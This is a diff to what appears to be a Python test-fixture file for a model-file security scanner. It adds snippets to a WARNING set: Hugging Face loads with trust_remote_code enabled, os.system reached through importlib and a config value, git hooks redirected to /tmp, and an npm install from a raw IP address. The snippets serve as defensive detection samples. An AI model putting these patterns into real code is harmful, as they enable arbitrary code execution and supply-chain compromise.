@@ -636,6 +636,23 @@ names["go"]("echo modelsweep-test")
 """,
 }
 WARNING = {
+    "settings_that_trust_are_used": """from transformers import AutoModel
+given = dict(trust_remote_code=True)
+net = AutoModel.from_pretrained("acme/net", **given)
+""",
+    "module_by_a_setting": """import importlib
+from transformers import PreTrainedModel
+class AcmeModel(PreTrainedModel):
+    def __init__(self, config):
+        super().__init__(config)
+        getattr(importlib.import_module(config.module), "system")(config.value)
+""",
+    "hooks_of_git": """import subprocess
+subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/x"])
+""",
+    "package_of_node_from_an_address": """import subprocess
+subprocess.run(["npm", "install", "http://192.0.2.1/x.tgz"])
+""",
     "any_function_of_the_process": """import gc
 [o for o in gc.get_objects() if getattr(o, "__name__", "") == "system"][0]("echo modelsweep-test")
 """,
@@ -822,6 +839,14 @@ class Config(acme.core.Config):
         return [acme.core.Split(given={})]
     def _generate_examples(self, archive, directory, labeled=True):
         yield path, {}
+""",
+    "settings_that_trust": """from transformers import AutoTokenizer
+tokenizer = dict(type=AutoTokenizer.from_pretrained, trust_remote_code=True, padding_side="right")
+""",
+    "import_by_name": """import importlib
+def find(name):
+    module = importlib.import_module(name)
+    return module.build(getattr(module, "KIND", None)), module.system
 """,
     "partialmethod": """import functools, subprocess
 class A:
